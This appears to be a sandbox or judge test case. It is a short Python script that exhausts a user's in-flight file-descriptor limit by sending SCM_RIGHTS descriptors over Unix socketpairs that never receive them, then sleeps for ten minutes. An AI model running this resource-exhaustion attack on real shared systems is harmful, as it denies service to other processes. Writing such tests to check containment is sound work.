# attack: descriptors sent and never received: all processes of a user share how many there may be
# must: had not ended after
# passed: 0
# beside: right answers
import array
import contextlib
import socket
import time

kept = []
with contextlib.suppress(OSError):
    for _ in range(20):
        pair = socket.socketpair()
        kept.append(pair)
        for _ in range(4):
            many = array.array("i", [0] * 250)
            pair[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, many)])
time.sleep(600)
